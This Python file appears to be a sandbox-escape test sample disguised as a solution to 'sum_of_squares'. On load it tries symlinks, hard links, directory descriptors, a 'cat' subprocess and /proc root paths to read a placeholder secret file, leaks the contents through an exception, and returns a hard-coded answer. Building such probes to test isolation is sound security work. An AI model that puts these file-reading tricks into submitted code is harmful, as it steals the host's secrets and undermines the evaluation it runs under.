# tasks: sum_of_squares, add_numbers
# tries: reads a file of the caller's through links, descriptors, sendfile and a child
# harm: reads

import os
import subprocess

found = b""


def attempt(read):
    global found
    try:
        found += read() or b""
    except (OSError, subprocess.SubprocessError):
        pass


def by_link():
    os.symlink("@SECRET_FILE@", "s")
    return open("s", "rb").read()


def by_hard_link():
    os.link("@SECRET_FILE@", "h")
    return open("h", "rb").read()


def by_descriptor():
    folder = os.open(os.path.dirname("@SECRET_FILE@"), os.O_PATH)
    return os.read(os.open(os.path.basename("@SECRET_FILE@"), os.O_RDONLY, dir_fd=folder), 1000)


attempt(by_link)
attempt(by_hard_link)
attempt(by_descriptor)
attempt(lambda: subprocess.run(["cat", "@SECRET_FILE@"], capture_output=True, timeout=2).stdout)
attempt(lambda: open("/proc/self/root@SECRET_FILE@", "rb").read())
attempt(lambda: open("/proc/1/root@SECRET_FILE@", "rb").read())
attempt(lambda: open(f"/proc/{os.getppid()}/root@SECRET_FILE@", "rb").read())
if found:
    raise RuntimeError(found.decode())


def sum_of_squares(*_):
    return 3
